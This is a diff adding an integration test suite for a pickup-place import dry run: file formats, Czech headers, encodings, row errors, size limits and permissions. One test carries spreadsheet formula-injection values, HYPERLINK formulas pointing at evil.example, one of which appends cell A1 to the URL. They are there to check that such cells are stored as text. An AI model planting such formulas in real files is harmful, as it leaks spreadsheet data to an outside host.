@@ -1,0 +1,178 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { expectProblem } from '@/testing/expect-problem';
+import { fixture, imported, rowsOf, upload } from '@/testing/imports';
+import { signedIn } from '@/testing/signed-in';
+import type { BrowserClient } from '@/testing/stack';
+import { useStack } from '@/testing/use-stack';
+
+// The upload and dry run of an import through the BFF's HTTP routes against a real sandbox: every
+// format, both delimiters and all three encodings read into the same places, the mapping proposed
+// from Czech and English headers, and every kind of bad file answered with a clear problem.
+
+const stack = useStack();
+
+describe('import dry run', () => {
+  let staff: BrowserClient;
+  beforeAll(async () => {
+    staff = await signedIn(stack(), 'staff');
+  });
+
+  it.each([
+    ['places-utf8-comma.csv', 'utf-8', ','],
+    ['places-utf8bom-semicolon.csv', 'utf-8-bom', ';'],
+    ['places-cp1250-semicolon.csv', 'windows-1250', ';'],
+  ])('reads %s (%s, %s) with Czech headers mapped', async (name, encoding, delimiter) => {
+    const result = await imported(staff, name);
+    expect(result).toMatchObject({
+      format: 'csv',
+      encoding,
+      delimiter,
+      counts: { total: 3, create: 3, error: 0 },
+    });
+    expect(result.columns.map((c) => c.header)).toContain('Zeměpisná šířka');
+    expect(result.mapping.slice(0, 8)).toEqual([
+      'originPickupPlaceId',
+      'name',
+      'type',
+      'countryCode',
+      'line1',
+      'city',
+      'zipCode',
+      'latitude',
+    ]);
+    const rows = await rowsOf(staff, result.id);
+    expect(rows[0]).toMatchObject({ row: 2, outcome: 'create', name: 'Papírnictví U Řeky' });
+    expect(rows[2]!.name).toBe('Květinářství Šťastná');
+  });
+
+  it('reads the chosen sheet of an .xlsx, and GeoJSON points', async () => {
+    const first = await upload(staff, 'places.xlsx', fixture('places.xlsx')); // a note, no rows
+    expectProblem(first, 400, '/problems/import-file');
+    expect(first.data.properties).toMatchObject({ reason: 'empty', sheets: ['Poznámky', 'Pobočky'] });
+    const xlsx = await imported(staff, 'places.xlsx', { sheet: 'Pobočky' });
+    expect(xlsx).toMatchObject({
+      format: 'xlsx',
+      sheet: 'Pobočky',
+      sheets: ['Poznámky', 'Pobočky'],
+      counts: { total: 3, create: 3, error: 0 },
+    });
+    const geo = await imported(staff, 'places.geojson');
+    expect(geo).toMatchObject({ format: 'geojson', counts: { total: 3, create: 3, error: 0 } });
+    expect(geo.mapping[geo.columns.findIndex((c) => c.header === 'latitude')]).toBe('latitude');
+  });
+
+  it('reads a week in the opening_hours syntax', async () => {
+    const result = await imported(staff, 'places-osm-hours.csv');
+    expect(result.mapping.at(-1)).toBe('openingHours');
+    expect(result.counts).toMatchObject({ create: 2, error: 0 });
+  });
+
+  it.each([
+    ['empty.csv', 400, 'empty'],
+    ['header-only.csv', 400, 'empty'],
+    ['text-named.xlsx', 400, 'wrong_format'],
+    ['xlsx-named.csv', 400, 'wrong_format'],
+    ['garbage.csv', 400, 'wrong_format'],
+    ['open-quote.csv', 400, 'unclosed_quote'],
+    ['not-points.geojson', 400, 'not_geojson'],
+  ])('refuses %s as a whole', async (name, status, reason) => {
+    const res = await upload(staff, name, fixture(name));
+    expectProblem(res, status, '/problems/import-file');
+    expect(res.data.properties.reason).toBe(reason);
+  });
+
+  it('refuses binary garbage without a name that says what it is', async () => {
+    const res = await upload(staff, 'upload', fixture('garbage.csv'));
+    expect(res.data.properties.reason).toBe('binary');
+  });
+
+  it('names the rows of a ragged CSV', async () => {
+    const result = await imported(staff, 'ragged.csv');
+    expect(result.counts).toMatchObject({ total: 3, create: 1, error: 2 });
+    const errors = await rowsOf(staff, result.id, 'error');
+    expect(errors.map((r) => [r.row, r.errors[0]!.reason])).toEqual([
+      [3, 'ragged_row'],
+      [4, 'ragged_row'],
+    ]);
+  });
+
+  it('imports formula-like cells as text, never evaluated', async () => {
+    const result = await imported(staff, 'formula.csv');
+    expect(result.counts).toMatchObject({ create: 3, error: 0 });
+    const rows = await rowsOf(staff, result.id);
+    expect(rows.map((r) => r.name)).toEqual([
+      '=HYPERLINK("http://evil.example/?x="&A1;"Klikni")',
+      '=1+2', // the export's leading apostrophe is taken off again
+      'Květinářství Šťastná',
+    ]);
+    const xlsx = await rowsOf(staff, (await imported(staff, 'formula.xlsx')).id);
+    expect(xlsx[0]!.name).toBe('=HYPERLINK("http://evil.example","Klikni")');
+  });
+
+  it('makes both rows of a duplicate originPickupPlaceId errors', async () => {
+    const result = await imported(staff, 'duplicate-origin.csv');
+    const errors = await rowsOf(staff, result.id, 'error');
+    expect(errors.map((r) => [r.row, r.errors[0]])).toEqual([
+      [2, { column: 'Kód', target: 'originPickupPlaceId', reason: 'duplicate_origin_id' }],
+      [4, { column: 'Kód', target: 'originPickupPlaceId', reason: 'duplicate_origin_id' }],
+    ]);
+  });
+
+  it('refuses the id of another e-shop’s place and an unknown id', async () => {
+    const result = await imported(staff, 'other-eshop-id.csv');
+    expect(result.counts).toMatchObject({ create: 1, error: 2 });
+    const errors = await rowsOf(staff, result.id, 'error');
+    expect(errors.map((r) => r.errors[0]!.reason)).toEqual(['unknown_id', 'unknown_id']);
+  });
+
+  it('names row, column and reason of invalid values, and checks again under a fixed mapping', async () => {
+    const result = await imported(staff, 'two-bad-rows.csv');
+    expect(result.counts).toMatchObject({ total: 3, error: 3 }); // the zip code's column is not mapped
+    const zip = result.columns.findIndex((c) => c.header === 'Poštovní směrovací číslo');
+    expect(result.mapping[zip]).toBeNull();
+    const mapping = [...result.mapping];
+    mapping[zip] = 'zipCode';
+    const fixed = await staff.fetch(`/bff/imports/${result.id}/mapping`, {
+      method: 'PUT',
+      json: { mapping },
+    });
+    expect(fixed.status, fixed.text).toBe(200);
+    expect(fixed.data.counts).toMatchObject({ create: 1, error: 2 });
+    const errors = await rowsOf(staff, result.id, 'error');
+    expect(errors.map((r) => [r.row, r.errors.map((e) => [e.column, e.reason])])).toEqual([
+      [3, [['Typ', 'not_allowed']]],
+      [4, [['Pondělí', 'invalid_hours']]],
+    ]);
+  });
+
+  it('refuses a file over the size limit while it streams, with no server error', async () => {
+    // A 50 MiB line: the body is generated as it is sent, and the BFF stops keeping it at 20 MiB.
+    const line = new Blob([fixture('places-utf8-comma.csv'), new Uint8Array(50 * 1024 * 1024).fill(0x61)]);
+    const res = await upload(staff, 'long-line.csv', line);
+    expectProblem(res, 413);
+    expect(res.data.properties.reason).toBe('too_large');
+  });
+
+  it('is for staff with the right to change places, in a managed e-shop', async () => {
+    const support = await signedIn(stack(), 'support');
+    expectProblem(await upload(support, 'places-utf8-comma.csv', fixture('places-utf8-comma.csv')), 403);
+    const other = await upload(staff, 'places-utf8-comma.csv', fixture('places-utf8-comma.csv'), {
+      eshopId: 'bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbb9',
+    });
+    expectProblem(other, 404);
+  });
+
+  it('serves templates whose headers map by themselves and whose rows are new places', async () => {
+    for (const extension of ['csv', 'xlsx']) {
+      const res = await fetch(`${stack().bffUrl}/bff/imports/template.${extension}`, {
+        headers: { cookie: staff.cookie },
+      });
+      expect(res.status).toBe(200);
+      const file = new Uint8Array(await res.arrayBuffer());
+      const result = await upload(staff, `template.${extension}`, file);
+      expect(result.status, result.text).toBe(201);
+      expect(result.data.counts).toMatchObject({ total: 2, create: 2, error: 0 });
+      expect(result.data.mapping).not.toContain(null);
+    }
+  });
+});
